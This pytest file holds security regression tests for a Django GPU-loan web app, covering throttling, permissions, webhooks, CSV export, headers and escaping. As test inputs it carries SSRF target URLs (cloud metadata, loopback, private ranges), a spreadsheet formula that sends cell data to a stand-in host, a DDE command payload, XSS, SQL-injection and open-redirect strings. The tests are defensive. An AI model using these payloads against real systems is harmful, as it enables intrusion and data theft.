"""What a security review of the web tier tried, each as a test that failed before its fix:
the browsable API's choices, login throttling, the operators' permissions, webhook targets,
out-of-range dates, CSV formulas, caching and cookie headers, page sizes and parser texts.
(Slow clients behind nginx: test_proxy.py; the access table: test_access.py; the CSP in a
browser: tests/browser/test_security_in_a_browser.py.)"""

import csv
import io
import ipaddress
import json
import threading
from datetime import date
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
import time_machine
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.core.exceptions import ValidationError
from django.test import Client, RequestFactory
from django.urls import reverse

from core.clientip import client_ip
from loans.access import OPERATORS
from loans.models import Amendment, Contract, Plan, Tenant
from loans.models.fields import validate_webhook_url
from loans.services.alerts import webhooks
from metering.models import Node
from tests.conftest import PASSWORD, make_user

# -- The browsable API ------------------------------------------------------------------------


@pytest.fixture
def theirs(other_tenant, plan) -> Contract:
    return Contract.objects.create(tenant=other_tenant, plan=plan, starts_on=date(2026, 11, 1),
                                   status=Contract.Status.ACTIVE)


def test_the_browsable_api_is_not_rendered_for_a_lead_outside_debug(client, lead, contract,
                                                                    theirs):
    client.force_login(lead)
    html = client.get("/api/v1/bursts/", HTTP_ACCEPT="text/html")
    assert html.status_code == 406
    assert client.get("/api/v1/bursts/?format=api").status_code == 404
    assert client.get("/api/v1/bursts/").status_code == 200  # JSON, as ever


def test_an_operator_still_browses_the_api(client, operator, contract):
    client.force_login(operator)
    response = client.get("/api/v1/bursts/", HTTP_ACCEPT="text/html")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")


def test_the_burst_form_offers_only_the_callers_contracts(client, lead, contract, theirs,
                                                         settings):
    settings.DEBUG = True  # where the browsable API renders for everyone
    client.force_login(lead)
    html = client.get("/api/v1/bursts/", HTTP_ACCEPT="text/html").content.decode()
    assert f'<option value="{contract.pk}"' in html
    assert f'<option value="{theirs.pk}"' not in html


def test_another_tenants_contract_is_refused_as_a_missing_one_is(client, lead, contract,
                                                                theirs):
    client.force_login(lead)
    answers = []
    for pk in (theirs.pk, 987654):
        response = client.post("/api/v1/bursts/", {
            "contract": pk, "gpus": 2, "reason": "x", "starts_at": "2027-01-01T00:00:00Z",
            "ends_at": "2027-01-02T00:00:00Z"}, content_type="application/json")
        assert response.status_code == 400
        answers.append(response.json()["contract"][0].replace(str(pk), "N"))
    assert answers[0] == answers[1]


# -- Login throttling ---------------------------------------------------------------------------


def test_a_fullwidth_username_counts_against_the_same_user(client, db, settings):
    settings.AXES_FAILURE_LIMIT = 3
    make_user("recsys-member")
    for name in ("recsys-member", "ｒecsys-member", "recsys-ｍember"):
        client.post("/en/accounts/login/", {"username": name, "password": "wrong"})
    # Locked: not even the right password, in either spelling, logs in now.
    for name in ("ｒecsys-member", "recsys-member"):
        page = client.post("/en/accounts/login/", {"username": name, "password": PASSWORD})
        assert page.status_code == 429, name


def test_behind_a_trusted_proxy_one_client_cannot_lock_out_another(db, settings):
    settings.AXES_FAILURE_LIMIT = 3
    settings.TRUSTED_PROXIES = [ipaddress.ip_network("127.0.0.1/32")]
    make_user("lead")
    attacker = Client(REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.7")
    for _ in range(4):
        attacker.post("/en/accounts/login/", {"username": "lead", "password": "wrong"})
    assert attacker.post("/en/accounts/login/", {"username": "lead", "password": PASSWORD}
                         ).status_code == 429
    owner = Client(REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="203.0.113.20")
    assert owner.post("/en/accounts/login/", {"username": "lead", "password": PASSWORD}
                      ).status_code == 302


@pytest.mark.parametrize(("remote", "forwarded", "client"), [
    ("203.0.113.9", "10.0.0.1", "203.0.113.9"),  # not from a trusted proxy: the header is ignored
    ("127.0.0.1", "198.51.100.7", "198.51.100.7"),
    ("127.0.0.1", "6.6.6.6, 198.51.100.7", "198.51.100.7"),  # what the client claimed is left
    ("127.0.0.1", "198.51.100.7, 127.0.0.1", "198.51.100.7"),  # past our own proxies
    ("127.0.0.1", "not-an-address", "127.0.0.1"),
    ("127.0.0.1", "", "127.0.0.1"),
])
def test_the_client_address_is_read_past_trusted_proxies_only(settings, remote, forwarded,
                                                              client):
    settings.TRUSTED_PROXIES = [ipaddress.ip_network("127.0.0.0/8")]
    request = RequestFactory().get("/", REMOTE_ADDR=remote, HTTP_X_FORWARDED_FOR=forwarded)
    assert client_ip(request) == client


def test_the_password_change_form_is_throttled_too(client, lead, settings):
    settings.AXES_FAILURE_LIMIT = 3
    client.force_login(lead)
    change = {"new_password1": "another-long-pass-42", "new_password2": "another-long-pass-42"}
    statuses = [client.post("/en/accounts/password/", {"old_password": "wrong", **change}
                            ).status_code for _ in range(3)]
    assert statuses == [200, 200, 429]
    response = client.post("/en/accounts/password/", {"old_password": PASSWORD, **change})
    assert response.status_code == 429
    lead.refresh_from_db()
    assert lead.check_password(PASSWORD)  # unchanged


@pytest.mark.postgresql
def test_failures_are_counted_across_workers(server, db, settings):
    """Two gunicorn workers, one count: the fifth failure locks, whichever worker takes it."""
    make_user("lead")
    app = server(LOGIN_FAILURES_ALLOWED="5")
    statuses = []
    for _ in range(7):
        status, _body = app.login("lead", "wrong")
        statuses.append(status)
    assert statuses == [200] * 4 + [429] * 3
    assert app.login("lead", PASSWORD)[0] == 429


# -- Operators are a role -----------------------------------------------------------------------


def new_user(username: str, **flags):
    return get_user_model().objects.create_user(username=username, password=PASSWORD, **flags)


@pytest.fixture
def staff(db):
    """Staff, without any permission: the admin shows such a user nothing."""
    return new_user("staffer", is_staff=True)


def test_staff_without_permissions_changes_nothing_through_the_api(client, staff, tenant, plan):
    node = Node.objects.create(name="gpu-node-01")
    node.issue_token()
    before = Node.objects.get().token_hash
    client.force_login(staff)
    assert client.patch("/api/v1/tenants/vision/", {"webhook_url": "https://example.com/x"},
                        content_type="application/json").status_code == 403
    assert client.post(f"/api/v1/nodes/{node.pk}/rotate-token/").status_code == 403
    assert client.post("/api/v1/plans/", {"name": "free"}).status_code == 403
    assert client.get("/en/tenants/vision/").status_code == 404
    assert client.get("/en/fleet/").status_code == 403
    assert Node.objects.get().token_hash == before
    assert Tenant.objects.get().webhook_url == ""


def test_a_member_of_the_operators_group_runs_the_fleet(client, tenant, plan):
    user = new_user("ops", is_staff=True)
    user.groups.add(Group.objects.get(name=OPERATORS))
    client.force_login(user)
    assert client.get("/en/fleet/").status_code == 200
    assert client.get("/en/tenants/vision/").status_code == 200
    assert client.patch("/api/v1/tenants/vision/", {"name": "Vision"},
                        content_type="application/json").status_code == 200


def with_permissions(name: str, *codenames: str):
    user = new_user(name, is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(codename__in=codenames))
    return user


def test_one_view_permission_outside_the_operators_group_reads_no_other_tenant(
        client, tenant, contract):
    """The pages showed every tenant's statements, usage and the fleet to such a user, which
    the admin refused: the stricter answer holds everywhere."""
    client.force_login(with_permissions("auditor", "view_tenant"))
    assert client.get("/en/tenants/vision/").status_code == 404
    assert client.get("/en/tenants/vision/periods.csv").status_code == 404
    assert client.get("/en/fleet/").status_code == 403
    assert client.get(f"/api/v1/contracts/{contract.pk}/statements").status_code == 404
    assert client.get("/api/v1/tenants/vision/usage").status_code == 404
    assert client.get("/api/v1/tenants/").status_code == 403
    assert client.patch("/api/v1/tenants/vision/", {"name": "x"},
                        content_type="application/json").status_code == 403
    # The admin is the operators' too: it sends such a user to its login.
    assert client.get(reverse("admin:loans_tenant_changelist")).status_code == 302
    change = reverse("admin:loans_tenant_change", args=[tenant.pk])
    assert client.post(change, {"slug": "vision", "name": "x"}).status_code == 302
    tenant.refresh_from_db()
    assert tenant.name == "Vision Lab"


def test_one_add_permission_outside_the_operators_group_amends_nothing(client, contract):
    """A staff user holding only add_amendment cut a commitment in the admin, which the API
    refused."""
    client.force_login(with_permissions("clerk", "add_amendment", "view_contract"))
    add = reverse("admin:loans_amendment_add")
    assert client.get(add, {"contract": contract.pk}).status_code == 302
    assert client.post(add, {"contract": contract.pk, "from_number": 3,
                             "committed_gpu_hours": "1", "reason": "r"}).status_code == 302
    assert client.post(f"/api/v1/contracts/{contract.pk}/amendments", {
        "from_period": 3, "changes": {"committed_gpu_hours": "1"}, "reason": "r"},
        content_type="application/json").status_code in (403, 404)
    assert not Amendment.objects.exists()


def test_the_create_operator_command_makes_an_operator(db, capsys):
    from django.core.management import call_command

    call_command("create_operator", "night-shift", "--no-password")
    user = get_user_model().objects.get(username="night-shift")
    assert user.is_staff and not user.is_superuser and not user.has_usable_password()
    assert user.groups.filter(name=OPERATORS).exists()
    assert user.has_perm("loans.change_contract")
    assert "night-shift" in capsys.readouterr().out


# -- Webhooks -----------------------------------------------------------------------------------

REFUSED_URLS = [
    "http://127.0.0.1:5432/", "http://[::1]/hook", "http://169.254.169.254/latest/meta-data",
    "http://metadata.google.internal/computeMetadata/v1/", "http://10.1.2.3/hook",
    "http://192.168.0.10/", "http://[fd00::1]/", "http://[::ffff:127.0.0.1]/",
    "http://0.0.0.0/", "http://localhost:8000/", "https://100.64.0.1/", "http://2130706433/",
    # IPv6 addresses that lead to loopback or private IPv4: NAT64, 6to4, Teredo.
    "http://[64:ff9b::7f00:1]/", "http://[64:ff9b::10.1.2.3]/", "http://[64:ff9b:1::a01:203]/",
    "http://[2002:7f00:1::1]/", "http://[2002:c0a8:1::1]/",
    "http://[2001:0:4136:e378:8000:63bf:80ff:fffe]/",  # Teredo to client 127.0.0.1
]


def test_a_public_address_behind_nat64_or_6to4_is_accepted():
    validate_webhook_url("http://[64:ff9b::5db8:d70e]/hook")  # 93.184.215.14
    validate_webhook_url("http://[2002:5db8:d70e::1]/hook")


@pytest.mark.parametrize("url", REFUSED_URLS)
def test_a_webhook_into_our_own_network_is_refused_when_saved(url):
    with pytest.raises(ValidationError) as refused:
        validate_webhook_url(url)
    assert "public" in str(refused.value)


def test_an_allowed_network_is_allowed_in_its_ipv6_mapped_spelling_too(settings):
    settings.WEBHOOK_ALLOWED_NETWORKS = [ipaddress.ip_network("10.0.0.0/8")]
    validate_webhook_url("http://10.1.2.3/hook")
    validate_webhook_url("http://[::ffff:10.1.2.3]/hook")
    with pytest.raises(ValidationError):
        validate_webhook_url("http://[::ffff:192.168.0.1]/hook")


def test_a_public_webhook_is_accepted(db):
    validate_webhook_url("https://93.184.215.14/hook")
    tenant = Tenant(slug="x", name="X", webhook_url="https://93.184.215.14/hook")
    tenant.full_clean()


def test_the_operators_api_refuses_a_private_webhook(client, operator, tenant):
    client.force_login(operator)
    response = client.patch("/api/v1/tenants/vision/",
                            {"webhook_url": "http://169.254.169.254/latest/"},
                            content_type="application/json")
    assert response.status_code == 400
    assert "public" in response.json()["webhook_url"][0]


class Answer(BaseHTTPRequestHandler):
    status = 200
    location = ""
    hits: list[str] = []

    def do_POST(self):  # noqa: N802 - the handler's API
        self.hits.append(self.path)
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.send_response(self.status)
        if self.location:
            self.send_header("Location", self.location)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def local_server():
    servers = []

    def start(status: int = 200, location: str = "") -> str:
        handler = type("Handler", (Answer,), {"status": status, "location": location,
                                              "hits": []})
        server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return f"http://127.0.0.1:{server.server_port}", handler

    yield start
    for server in servers:
        server.shutdown()


def test_a_webhook_is_checked_again_at_send_time(local_server):
    """Saved when it pointed elsewhere (or by a query that skipped validation): still not sent
    to loopback."""
    url, handler = local_server()
    with pytest.raises(webhooks.DeliveryError):
        webhooks.post(url + "/hook", {"event": "x"})
    assert handler.hits == []


def test_a_redirect_is_never_followed(local_server, settings):
    settings.WEBHOOK_ALLOWED_NETWORKS = [ipaddress.ip_network("127.0.0.0/8")]
    inner, inner_handler = local_server()
    outer, outer_handler = local_server(302, inner + "/secret")
    with pytest.raises(webhooks.DeliveryError):
        webhooks.post(outer + "/hook", {"event": "x"})
    assert outer_handler.hits == ["/hook"] and inner_handler.hits == []


def test_an_allowed_network_is_delivered_to(local_server, settings):
    settings.WEBHOOK_ALLOWED_NETWORKS = [ipaddress.ip_network("127.0.0.0/8")]
    url, handler = local_server()
    assert webhooks.post(url + "/hook?tenant=vision", {"event": "x"}) == 200
    assert handler.hits == ["/hook?tenant=vision"]


def test_every_failure_reads_the_same(local_server, settings):
    """An open port, a closed one, an error status: one text, so a webhook cannot map ports."""
    settings.WEBHOOK_ALLOWED_NETWORKS = [ipaddress.ip_network("127.0.0.0/8")]
    erring, _handler = local_server(500)
    texts = set()
    for url in (erring + "/", "http://127.0.0.1:1/", "http://127.0.0.1:9/",
                "http://10.0.0.1/"):
        with pytest.raises(webhooks.DeliveryError) as failed:
            webhooks.post(url, {})
        texts.add(str(failed.value))
    assert texts == {"webhook not delivered"}


# -- Out-of-range dates and page numbers ----------------------------------------------------------


@pytest.mark.parametrize("path", [
    "/api/v1/contracts/{c}/burndown?period=0001-01-01",
    "/api/v1/contracts/{c}/burndown?period=9999-12-31",
    "/api/v1/tenants/vision/usage?start=0001-01-01&end=0001-01-02",
    "/api/v1/tenants/vision/usage?start=9999-12-31&end=9999-12-31T23:00&tz=America/New_York",
    "/api/v1/tenants/vision/usage?start=0001-01-01T00:00:00%2B14:00&end=2026-01-01",
    "/en/admin/metering/usagesample/?page=99999999999999999999",
    "/en/admin/metering/usagesample/?since=0001-01-01",
    "/en/admin/metering/tenanthour/?hour__year=99999999999",
    "/en/admin/metering/tenanthour/?hour__year=2026&hour__month=13",
    "/en/admin/loans/contract/?starts_on__year=0",
    "/en/admin/loans/statement/?period_start__year=10000",
])
def test_an_out_of_range_date_is_a_400_that_names_the_range(client, operator, contract, path):
    client.force_login(operator)
    response = client.get(path.format(c=contract.pk))
    assert response.status_code == 400, response.content[:300]
    text = response.content.decode()
    assert "1970" in text or "1,000,000" in text or "100,000" in text or "from 1 to" in text


def test_the_tenant_page_answers_an_out_of_range_period_with_a_message(client, lead, contract):
    client.force_login(lead)
    response = client.get("/en/tenants/vision/?period=0001-01-01")
    assert response.status_code in (200, 400)
    assert "from 1970-01-01 to 2999-12-31" in response.content.decode()


# -- CSV formulas -------------------------------------------------------------------------------


def test_a_formula_in_a_name_reaches_no_spreadsheet_as_a_formula(client, operator, tenant):
    plan = Plan.objects.create(name='=HYPERLINK("http://x.example/?"&A1,"open")',
                               base_quota_gpus=1, max_quota_gpus=2,
                               committed_gpu_hours=100, committed_rate=10)
    Tenant.objects.filter(pk=tenant.pk).update(slug="-vision")
    Contract.objects.create(tenant=Tenant.objects.get(), plan=plan,
                            starts_on=date.today().replace(day=1),
                            status=Contract.Status.ACTIVE)
    client.force_login(operator)
    rows = list(csv.reader(io.StringIO(client.get("/en/fleet.csv").content.decode())))
    assert rows[1][0] == "'-vision"
    assert rows[1][1].startswith("'=HYPERLINK")


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+A1", "'-1+A1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("plain", "plain"), (-5, "-5"), ("", ""),
    # Numbers stay numbers, given as text too (a negative amount in an export).
    ("-600.00", "-600.00"), ("-1", "-1"), ("12", "12"), ("-1.", "'-1."),
    # A semicolon splits the cell in some locales' spreadsheets: each part is neutralised.
    ("x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"), ("a; -b;@c", "a; '-b;'@c"),
    ("=a;+b", "'=a;'+b"), ("a;b", "a;b"),
])
def test_every_formula_start_is_neutralised(cell, written):
    from core import spreadsheet

    out = io.StringIO()
    spreadsheet.writer(out).writerow([cell])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written]


# -- Headers ------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/en/tenants/vision/", "/en/tenants/vision/periods.csv",
                                  "/api/v1/tenants/vision/usage", "/en/fleet.csv",
                                  "/en/tenants/vision/buy-vs-loan/"])
def test_what_an_authenticated_caller_sees_is_never_stored(client, operator, contract, path):
    client.force_login(operator)
    response = client.get(path)
    assert response.status_code == 200
    assert {"private", "no-store"} <= {part.strip() for part in
                                       response["Cache-Control"].split(",")}


@pytest.mark.parametrize("path", ["/en/accounts/login/", "/en/tenants/vision/", "/en/admin/",
                                  "/api/docs/", "/api/v1/"])
def test_every_page_carries_a_content_security_policy(client, operator, contract, path):
    client.force_login(operator)
    policy = client.get(path)["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "object-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy
    assert "unsafe-eval" not in policy


def test_the_language_cookie_is_flagged(client, settings):
    response = client.post("/i18n/setlang/", {"language": "zh-hans", "next": "/"})
    cookie = response.cookies[settings.LANGUAGE_COOKIE_NAME]
    assert cookie["httponly"] and cookie["samesite"] == "Lax"


# -- Page sizes and parser texts ----------------------------------------------------------------


@pytest.mark.parametrize(("query", "status"), [
    ("limit=100000000", 400), ("limit=0", 400), ("limit=-1", 400), ("limit=ten", 400),
    ("offset=99999999999999999999", 400), ("limit=1000", 200), ("limit=5&offset=10", 200),
    ("limit=", 200),
])
def test_list_pages_are_capped(client, operator, tenant, query, status):
    client.force_login(operator)
    response = client.get(f"/api/v1/tenants/?{query}")
    assert response.status_code == status, response.content
    if status == 400:
        assert "Use a whole number from" in json.dumps(response.json())


def test_an_undecodable_batch_is_refused_without_the_parsers_words(client, db):
    node = Node.objects.create(name="gpu-node-01")
    token = node.issue_token()
    body = b'{"node": "gpu-node-01", "samples": [{"gpu_uuid": "\xff"}]}'
    response = client.post("/api/v1/samples", body, content_type="application/json",
                           HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 400
    text = response.content.decode()
    assert "codec" not in text and "position" not in text
    where = body.index(b"\xff")
    assert f"not UTF-8 at byte {where}" in text


# -- What held in the review, kept holding ------------------------------------------------------


@pytest.mark.parametrize("target", ["https://evil.example/", "//evil.example/x",
                                    "/\\evil.example", "javascript:alert(1)"])
def test_no_redirect_leaves_the_site(client, lead, target):
    response = client.post(f"/en/accounts/login/?next={target}",
                           {"username": "lead", "password": PASSWORD, "next": target})
    assert response.status_code == 302
    assert response["Location"].startswith("/"), response["Location"]
    assert not response["Location"].startswith(("//", "/\\"))
    switched = client.post("/i18n/setlang/", {"language": "zh-hans", "next": target})
    assert switched["Location"].startswith("/") and not switched["Location"].startswith("//")


def test_text_a_tenant_or_an_agent_sets_is_escaped(client, operator, tenant, contract):
    hostile = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    Tenant.objects.filter(pk=tenant.pk).update(name=hostile)
    Plan.objects.filter(pk=contract.plan_id).update(name=hostile)
    client.force_login(operator)
    for path in ("/en/tenants/vision/", "/en/fleet/"):
        html = client.get(path).content.decode()
        assert "<script>alert" not in html and "<img src=x" not in html, path
        assert "&lt;script&gt;alert" in html, path


@pytest.mark.parametrize("value", ["' OR 1=1 --", "vision'; DROP TABLE loans_tenant; --"])
def test_query_values_are_data_not_sql(client, operator, tenant, value):
    client.force_login(operator)
    response = client.get("/api/v1/contracts/", {"tenant": value, "status": value})
    assert response.status_code == 200 and response.json()["count"] == 0
    assert Tenant.objects.filter(slug="vision").exists()


def test_many_addresses_guessing_one_account_are_slowed_not_locking_its_owner_out(db, settings):
    settings.AXES_FAILURE_LIMIT = 3
    settings.LOGIN_ACCOUNT_FAILURES_PER_HOUR = 20
    settings.LOGIN_ACCOUNT_SLOW_SECONDS = 30
    make_user("lead")
    with time_machine.travel("2026-12-04 10:00:00Z", tick=False) as clock:
        for k in range(40):  # two guesses each from twenty addresses
            Client(REMOTE_ADDR=f"198.51.100.{k // 2}").post(
                "/en/accounts/login/", {"username": "lead", "password": "wrong"})
        owner = Client(REMOTE_ADDR="203.0.113.20")
        refused = owner.post("/en/accounts/login/", {"username": "lead", "password": PASSWORD})
        assert refused.status_code == 200  # refused unchecked, and said so
        assert "only one try every 30 seconds is checked" in refused.content.decode()
        clock.shift(31)
        assert owner.post("/en/accounts/login/", {"username": "lead", "password": PASSWORD}
                          ).status_code == 302


def test_the_owner_from_an_address_that_logged_in_before_is_not_crowded_out(db, settings):
    """Past the account's ceiling the right password from the owner's address was refused
    unchecked while an attacker held the one slot every 30 s; an address that has logged in
    to the account before is now checked at once, and strangers are still slowed."""
    settings.AXES_FAILURE_LIMIT = 3
    settings.LOGIN_ACCOUNT_FAILURES_PER_HOUR = 20
    make_user("lead")
    owner = Client(REMOTE_ADDR="203.0.113.20")
    with time_machine.travel("2026-12-03 09:00:00Z", tick=False):
        assert owner.post("/en/accounts/login/", {"username": "lead", "password": PASSWORD}
                          ).status_code == 302
    owner = Client(REMOTE_ADDR="203.0.113.20")
    with time_machine.travel("2026-12-04 10:00:00Z", tick=False):
        for k in range(40):
            Client(REMOTE_ADDR=f"198.51.100.{k // 2}").post(
                "/en/accounts/login/", {"username": "lead", "password": "wrong"})
        Client(REMOTE_ADDR="198.51.100.99").post(  # the attacker takes this gap's one slot
            "/en/accounts/login/", {"username": "lead", "password": "wrong"})
        assert owner.post("/en/accounts/login/", {"username": "lead", "password": PASSWORD}
                          ).status_code == 302
        stranger = Client(REMOTE_ADDR="203.0.113.77").post(
            "/en/accounts/login/", {"username": "lead", "password": PASSWORD})
        assert "only one try every 30 seconds is checked" in stranger.content.decode()



def test_local_passwords_can_be_limited_to_break_glass_operators(db, settings):
    """LOCAL_LOGIN_USERS: everyone else is told to use the organisation's sign-in, and the
    refusal counts towards the throttle like a wrong password."""
    settings.LOCAL_LOGIN_USERS = ["ops-breakglass"]
    settings.AXES_FAILURE_LIMIT = 3
    make_user("ops-breakglass")
    make_user("lead")
    refused = Client().post("/en/accounts/login/", {"username": "lead", "password": PASSWORD})
    assert refused.status_code == 200
    assert "only for the named break-glass operators" in refused.content.decode()
    assert Client().post("/en/accounts/login/", {"username": "ops-breakglass",
                                                 "password": PASSWORD}).status_code == 302
    attacker = Client()
    for _ in range(3):
        attacker.post("/en/accounts/login/", {"username": "lead", "password": PASSWORD})
    assert attacker.post("/en/accounts/login/", {"username": "lead", "password": PASSWORD}
                         ).status_code == 429
    settings.LOCAL_LOGIN_USERS = []
    assert Client(REMOTE_ADDR="203.0.113.5").post(
        "/en/accounts/login/", {"username": "lead", "password": PASSWORD}).status_code == 302
